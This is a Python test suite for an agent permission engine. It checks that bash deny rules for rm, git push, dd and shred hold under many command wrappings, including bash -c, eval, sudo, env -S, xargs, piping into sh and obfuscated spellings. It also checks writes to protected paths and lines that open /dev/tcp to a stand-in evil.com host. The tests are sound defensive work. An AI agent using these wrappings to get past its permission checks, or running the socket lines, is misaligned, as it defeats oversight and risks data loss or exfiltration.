"""Deny rules hold under every composition, allow rules never grow by one (hard cases 9 and 10)."""

from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jackstay.core.decision import Allow
from jackstay.core.facts import CallFacts
from jackstay.core.messages import ToolCall
from jackstay.core.rules import PermissionRule as Rule
from jackstay.policy.permissions import covering, judge

FACTS = CallFacts(workspace="/w", cwd="/w", home="/home/u")


def quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


# Ways to run a command X as part of another line. Each takes a simple command without redirections.
WRAPS: dict[str, Callable[[str], str]] = {
    "after &&": lambda x: f"ls && {x}",
    "after ||": lambda x: f"ls || {x}",
    "after ;": lambda x: f"ls; {x}",
    "after a pipe": lambda x: f"ls | {x}",
    "after |&": lambda x: f"ls |& {x}",
    "after &": lambda x: f"ls & {x}",
    "after a newline": lambda x: f"ls\n{x}",
    "before a newline": lambda x: f"{x}\nls",
    "in the background": lambda x: f"{x} &",
    "negated": lambda x: f"! {x}",
    "in a subshell": lambda x: f"({x})",
    "in braces": lambda x: f"{{ {x}; }}",
    "in a substitution": lambda x: f"echo $({x})",
    "in quotes in a substitution": lambda x: f'echo "$({x})"',
    # Backquotes do not nest: inside others they would end them, and the words between would not run.
    "in backquotes": lambda x: f"echo $({x})" if "`" in x else f"echo `{x}`",
    "in a process substitution": lambda x: f"cat <({x})",
    "in an assignment": lambda x: f"v=$({x})",
    "in a heredoc": lambda x: f"cat <<E\n$({x})\nE",
    "in a condition": lambda x: f"if {x}; then ls; fi",
    "in a branch": lambda x: f"if ls; then {x}; fi",
    "in a loop": lambda x: f"for i in 1 2; do {x}; done",
    "in a while": lambda x: f"while {x}; do ls; done",
    "in a case": lambda x: f"case a in a) {x};; esac",
    "in a function": lambda x: f"f() {{ {x}; }}; f",
    "in a test": lambda x: f"[[ -n $({x}) ]]",
    "with a comment": lambda x: f"{x} # harmless",
    "with a prefix": lambda x: f"LANG=C {x}",
    "with a strange prefix": lambda x: f"GIT_SSH=x {x}",
    "by sudo": lambda x: f"sudo {x}",
    "by sudo as someone": lambda x: f"sudo -n -u root {x}",
    "by env": lambda x: f"env {x}",
    "by env with a variable": lambda x: f"env A=1 {x}",
    "by env -S": lambda x: f"env -S {quoted(x)}",
    "by timeout": lambda x: f"timeout 5 {x}",
    "by time": lambda x: f"time {x}",
    "by nice": lambda x: f"nice -n 5 {x}",
    "by nohup": lambda x: f"nohup {x}",
    "by stdbuf": lambda x: f"stdbuf -oL {x}",
    "by setsid": lambda x: f"setsid {x}",
    "by command": lambda x: f"command {x}",
    "by exec": lambda x: f"exec {x}",
    "by xargs": lambda x: f"ls | xargs {x}",
    "by xargs with options": lambda x: f"ls | xargs -n 1 -I @ {x}",
    "by find": lambda x: f"find . -exec {x} {{}} \\;",
    "by bash -c": lambda x: f"bash -c {quoted(x)}",
    "by sh -c after options": lambda x: f"sh -e -c {quoted('ls; ' + x)}",
    "by eval": lambda x: f"eval {quoted(x)}",
    "by watch": lambda x: f"watch -n 1 {quoted(x)}",
    "by ssh": lambda x: f"ssh host {quoted(x)}",
    "by a string": lambda x: f"bash <<< {quoted(x)}",
    "by a pipe into a shell": lambda x: f"echo {quoted(x)} | sh",
    "by a heredoc into a shell": lambda x: f"sh <<'E'\n{x}\nE",
    "by an unknown program": lambda x: f"frobnicate --fast {x}",
    "by coproc": lambda x: f"coproc {x}",
    "by trap": lambda x: f"trap {quoted(x)} EXIT",
    "with output dropped": lambda x: f"{x} > /dev/null 2>&1",
    "with output kept": lambda x: f"{x} > out.txt",
}

# Ways to spell the first word of a command.
SPELLINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda w: w,
    "in quotes": lambda w: f"'{w}'",
    "in double quotes": lambda w: f'"{w}"',
    "with empty quotes": lambda w: f"{w[0]}''{w[1:]}",
    "with a backslash": lambda w: f"\\{w}",
    "by its path": lambda w: f"/usr/bin/{w}",
    "by number": lambda w: f"$'\\x{ord(w[0]):02x}{w[1:]}'",
}

DENIED = [
    (Rule.deny("bash", "rm *"), "rm", "-r build"),
    (Rule.deny("bash", "git push *"), "git", "push origin main"),
    (Rule.deny("bash", "npm publish"), "npm", "publish"),
    (Rule.deny("*", "dd *"), "dd", "if=a of=b"),
    (Rule.deny("bash", "*rm -r*"), "rm", "-r build"),
    (Rule.ask("bash", "shred *"), "shred", "a"),
]


# Those that need one simple command to begin with, and those that make one of whatever they are given.
NEEDS_SIMPLE = frozenset(
    name for name, wrap in WRAPS.items()
    if name.startswith(("by ", "with a prefix", "with a strange")) and "X Y" in wrap("X Y") and "'" not in wrap("X Y")
)  # fmt: skip
MAKES_SIMPLE = frozenset(
    name for name, wrap in WRAPS.items() if name.startswith("by ") and not any(c in wrap("X Y") for c in "|<\n")
) | {"with a prefix", "with a strange prefix"}  # fmt: skip


def wrapped(command: str, wraps: list[str]) -> str:
    """The command in these wraps, innermost first; one that does not fit is left out."""
    simple = True
    for name in wraps:
        if simple or name not in NEEDS_SIMPLE:
            command, simple = WRAPS[name](command), name in MAKES_SIMPLE
    return command


def verdict(rule: Rule, command: str) -> str:
    decision = judge((rule,), ToolCall("1", "bash", {"command": command}), FACTS, default="seed", hitl=True)
    return type(decision).__name__.lower()


@pytest.mark.parametrize("wrap", WRAPS)
def test_a_deny_holds_in_every_composition(wrap: str) -> None:
    for rule, program, rest in DENIED:
        command = WRAPS[wrap](f"{program} {rest}")
        grows = "*" not in str(rule.pattern) and wrap in ("by xargs", "by find")  # words are added unseen
        assert verdict(rule, command) == ("ask" if grows else rule.behavior), command


@settings(max_examples=400, deadline=None)
@given(
    denied=st.sampled_from([denied for denied in DENIED if "*" in str(denied[0].pattern)]),
    spelling=st.sampled_from(sorted(SPELLINGS)),
    wraps=st.lists(st.sampled_from(sorted(WRAPS)), max_size=3),
)
def test_a_deny_never_becomes_an_allow_however_it_is_wrapped(
    denied: tuple[Rule, str, str], spelling: str, wraps: list[str]
) -> None:
    rule, program, rest = denied
    command = wrapped(f"{SPELLINGS[spelling](program)} {rest}", wraps)
    assert verdict(rule, command) in ("deny", "ask"), command


@settings(max_examples=400, deadline=None)
@given(
    wraps=st.lists(st.sampled_from(sorted(WRAPS)), min_size=1, max_size=3),
    rules=st.lists(
        st.sampled_from([
            Rule.allow("bash", "ls *"), Rule.allow("bash", "echo *"), Rule.allow("bash", "git status *"),
            Rule.allow("bash", "cat *"), Rule.allow("bash", "bash *"), Rule.allow("bash", "sudo *"),
            Rule.allow("bash", "xargs *"), Rule.allow("bash", "env *"), Rule.allow("bash", "find *"),
            Rule.allow("bash", "*ls*"), Rule.allow("bash", "frobnicate *"), Rule.allow_exactly("bash", "ls"),
        ]),
        min_size=1, max_size=4,
    ),
)  # fmt: skip
def test_no_composition_makes_an_allow_cover_a_command_it_does_not_name(
    wraps: list[str], rules: list[Rule]
) -> None:
    command = wrapped("shred secret", wraps)
    if "frobnicate" in command and {"frobnicate *", "*ls*"} & {rule.pattern for rule in rules}:
        return  # then frobnicate is named with all its words, and nobody knows that it runs some of them
    assert covering(tuple(rules), ToolCall("1", "bash", {"command": command}), FACTS) is None, command


REDIRECTS = [
    "ls > {0}", "ls >> {0}", "ls 2> {0}", "ls 2>> {0}", "ls &> {0}", "ls &>> {0}", "ls >| {0}", "ls 1>{0}", "> {0}",
    "ls >& {0}", "ls 3> {0} >&3", "{{ ls; }} > {0}", "(ls) > {0}", "while read a; do ls; done > {0}", "ls | tee {0}", "ls | tee -a {0}",
    "cat > {0} <<E\nx\nE", "cp a {0}", "mv a {0}", "dd if=a of={0}", "sort -o {0} a", "touch {0}", "truncate -s 0 {0}",
    "sed -i s/a/b/ {0}", "install a {0}", "curl -o {0} http://x", "wget -O {0} http://x", "git diff --output={0}", "chmod +x {0}",
    "rm {0}", "bash -c 'ls > {0}'",
]  # fmt: skip
PLACES = ["/etc/x", "/etc/../etc/x", "//etc/x", "/etc/./sub/x", "~/keep/x", "$HOME/keep/x", "${{HOME}}/keep/x", "own/x", "./own/x", "$PWD/own/x", "src/../own/x", "'own/x'", '"own"/x', "own/$(date)"]  # fmt: skip


@pytest.mark.parametrize("redirect", REDIRECTS)
def test_a_denied_place_cannot_be_written_by_any_redirection_or_program(redirect: str) -> None:
    rules = (Rule.deny("write", "/etc/**"), Rule.deny("write", "~/keep/**"), Rule.deny("edit", "own/**"))
    for place in PLACES:
        if "bash -c" in redirect and "'" in place:
            continue
        command = redirect.format(place.replace("{{", "{").replace("}}", "}"))
        decision = judge(rules, ToolCall("1", "bash", {"command": command}), FACTS, default="seed", hitl=True)
        assert not isinstance(decision, Allow), command


def test_bash_own_network_files_count_as_addresses() -> None:
    rules = (Rule.deny("webfetch", "*.evil.com"),)
    for text in (
        "ls > /dev/tcp/x.evil.com/80",
        "exec 3<>/dev/tcp/x.evil.com/80",
        "cat < /dev/udp/x.evil.com/53",
    ):
        decision = judge(rules, ToolCall("1", "bash", {"command": text}), FACTS, default="seed", hitl=True)
        assert not isinstance(decision, Allow), text
